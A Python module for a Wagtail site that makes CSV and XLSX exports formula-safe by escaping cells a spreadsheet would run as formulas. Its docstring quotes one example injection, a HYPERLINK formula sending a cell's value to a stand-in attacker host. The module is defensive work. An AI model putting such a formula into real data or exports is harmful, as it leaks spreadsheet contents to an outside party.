"""CSV and XLSX exports that a spreadsheet cannot run as formulas.

A printed name such as =HYPERLINK("http://evil.example/?"&A1,"x") is data a
learner typed; opened in Excel or Sheets it would be a formula. Every export
view of the site mixes this in (Wagtail's form submissions included).
"""

import re

from wagtail.admin.views.mixins import SpreadsheetExportMixin

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise_formula(value):
    """Text that a spreadsheet would read as a formula, made plain text."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class FormulaSafeExportMixin(SpreadsheetExportMixin):
    def preprocess_field_value(self, field, value, export_format):
        return neutralise_formula(
            super().preprocess_field_value(field, value, export_format)
        )

    def get_heading(self, queryset, field):
        # Headings can be labels a trainer typed (form builder fields).
        return neutralise_formula(super().get_heading(queryset, field))


XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def csv_bytes(rows) -> bytes:
    """Rows of cells as CSV, every cell formula-safe."""
    import csv
    import io

    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerows([[neutralise_formula(cell) for cell in row] for row in rows])
    # A byte-order mark: Excel then reads the names' accents right.
    return ("\ufeff" + buffer.getvalue()).encode("utf-8")


# Excel refuses these in a sheet's name, and names longer than 31 characters.
SHEET_TITLE_FORBIDDEN = re.compile(r"[\\/?*\[\]:]")


def safe_sheet_title(title: str) -> str:
    """A sheet name Excel accepts, from a title a trainer typed ("CSEC: basics")."""
    cleaned = SHEET_TITLE_FORBIDDEN.sub(" ", title).strip().strip("'")[:31].strip()
    return cleaned or "Sheet"


def xlsx_bytes(rows, *, sheet_title: str) -> bytes:
    """Rows of cells as a one-sheet workbook, every cell formula-safe."""
    import io

    from openpyxl import Workbook

    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(title=safe_sheet_title(sheet_title))
    for row in rows:
        sheet.append([neutralise_formula(cell) for cell in row])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()
